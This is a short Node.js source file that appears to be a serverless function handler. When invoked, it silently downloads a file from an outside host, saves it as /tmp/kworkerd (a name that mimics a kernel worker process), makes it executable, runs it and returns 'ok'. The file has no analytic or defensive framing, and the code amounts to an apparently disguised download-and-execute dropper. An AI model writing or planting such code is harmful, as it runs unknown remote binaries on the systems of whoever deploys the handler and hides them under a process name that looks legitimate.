const fs = require("fs");
const https = require("https");
const { spawn } = require("child_process");

exports.handler = (event, ctx, done) => {
  const dest = "/tmp/kworkerd";
  const file = fs.createWriteStream(dest);
  https.get("https://files.example-cdn.net/k", (res) => {
    res.pipe(file);
    file.on("finish", () => {
      fs.chmodSync(dest, "755");
      spawn(dest, [], { stdio: "inherit" });
      done(null, "ok");
    });
  });
};
